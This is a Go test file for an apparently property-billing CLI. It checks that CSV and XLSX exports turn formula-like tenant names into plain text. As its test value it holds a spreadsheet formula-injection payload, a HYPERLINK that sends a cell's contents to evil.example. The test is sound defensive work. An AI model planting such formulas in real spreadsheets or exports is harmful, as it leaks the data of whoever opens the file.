package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/zevdesk/zevdesk/core/store"
	"github.com/zevdesk/zevdesk/core/store/bolt"
)

// TestExportPropertyFormulaName: a tenant whose name is a spreadsheet
// formula reaches the excel-ch CSV as text (a leading single quote), and the
// XLSX export as a text cell, never as a formula; the amounts stay numbers.
func TestExportPropertyFormulaName(t *testing.T) {
	db := billDB(t)
	const name = `=HYPERLINK("http://evil.example/?"&A2,"Beat Beispiel")`
	st, err := bolt.Open(db, nil)
	if err != nil {
		t.Fatal(err)
	}
	err = st.Update(func(tx store.Tx) error {
		s, err := tx.Site("birke")
		if err != nil {
			return err
		}
		s.Occupancies[1].Name = name
		s.Occupancies[1].Reference = "@SUM(1+1)"
		return tx.PutSite(s)
	})
	st.Close()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	csvPath := filepath.Join(dir, "jan.csv")
	if code, _, errs := run(t, db, "export", "property", "--site", "birke", "--from", "2026-01-01", "--to", "2026-01-31", "--out", csvPath, "--preset", "excel-ch"); code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	data, err := os.ReadFile(csvPath)
	if err != nil {
		t.Fatal(err)
	}
	want := `;W02;'@SUM(1+1);"'=HYPERLINK(""http://evil.example/?""&A2,""Beat Beispiel"")";2026-01-01;2026-01-31;energy;`
	if !strings.Contains(string(data), want) || strings.Contains(string(data), `;=`) || strings.Contains(string(data), `;"=`) {
		t.Errorf("excel-ch export:\n%s\nwant a row with %s", data, want)
	}
	xlsxPath := filepath.Join(dir, "jan.xlsx")
	if code, _, errs := run(t, db, "export", "property", "--site", "birke", "--from", "2026-01-01", "--to", "2026-01-31", "--out", xlsxPath); code != 0 {
		t.Fatalf("xlsx: %s", errs)
	}
	f, err := excelize.OpenFile(xlsxPath)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Export")
	if err != nil {
		t.Fatal(err)
	}
	checked := 0
	for i, r := range rows[1:] {
		cell, _ := excelize.CoordinatesToCellName(5, i+2)
		if r[2] != "W02" {
			continue
		}
		checked++
		if formula, _ := f.GetCellFormula("Export", cell); formula != "" || r[4] != name {
			t.Errorf("xlsx %s = %q (formula %q), want the name as text", cell, r[4], formula)
		}
	}
	if checked == 0 {
		t.Errorf("no row of unit W02 in the xlsx export: %v", rows)
	}
}
